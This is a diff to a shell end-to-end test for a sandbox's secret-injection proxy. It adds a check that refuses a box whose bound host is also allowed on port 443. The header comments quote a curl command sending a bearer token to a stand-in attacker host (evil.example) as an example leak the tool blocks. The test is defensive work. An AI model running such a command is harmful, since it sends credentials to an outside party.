@@ -16,7 +16,7 @@
 #   - `curl -H "Authorization: Bearer $GH" http://evil.example/` (off the allowlist) is blocked at once as a
 #     leak: 403 secret-leak naming GH, no approval asked, nothing reaches evil.example;
 #   - an exec whose command line, env, cwd or up-front stdin holds the value is refused (secret-in-exec) without
-#     quoting it;
+#     quoting it; a box whose bound host is also allowed as host:443 (a tunnel the proxy would not read) is refused;
 #   - the bundle verifies and holds tkbox.secret.use (GH, api.github.com) per swap, tkbox.secret.leak (GH,
 #     evil.example), tkbox.box with the secret's placeholder, hosts and header, tls (self-test) and
 #     clock_offset_ms; neither the bundle, nor any file under the daemon's state dir, nor the daemon's and the
@@ -26,21 +26,18 @@ set -u
 BUILD=${1:?usage: secrets-e2e.sh BUILD_DIR}
 source "$(cd "$(dirname "$0")" && pwd)/lib.sh"
 
-T0=$(t)
-sc_up
-eg_image
-signer_init && signer_start || eg_die "no signer"
-sc_daemon_start || eg_die "no daemon"
-echo "# harness, image and daemon ready in $(elapsed "$T0") s"
-
-if sc_box e1 --secret GH=env:GH@api.github.com,untrusted.example; then ok "run e1 --secret GH=env:GH@api.github.com,untrusted.example"; else
-	notok "run e1 --secret GH=env:GH@api.github.com,untrusted.example" "$(cat "$WORK/run-e1.err" "$WORK/sc-e1.err" 2>/dev/null)" \
-		"$(tail -5 "$WORK/daemon.log")"
-	echo "1..$((pass + fail))"
-	exit 1
-fi
+sc_start e1 --secret GH=env:GH@api.github.com,untrusted.example
 O=$WORK/e1 # everything the box printed goes under here (grepped for the value at the end)
 mkdir -p "$O"
+
+# ---- a bound host also allowed with port 443 would be a tcp:// tunnel the proxy does not read: refused -----
+if sc_box e443 --secret GH=env:GH@api.github.com --allow api.github.com:443; then
+	notok "a secret bound to a host allowed as host:443 is refused" "the box started"
+	"$TKBOX" rm -f e443 >/dev/null 2>&1
+else
+	check "a secret bound to a host allowed as host:443 is refused, naming the entry" \
+		grep -q 'allow entry for api.github.com:443 lets any protocol through' "$WORK/run-e443.err"
+fi
 
 # ---- the placeholder and the box's trust settings --------------------------------------------------------
 inbox e1 30 sh -c 'echo "$GH"' >"$O/echo-gh.out"
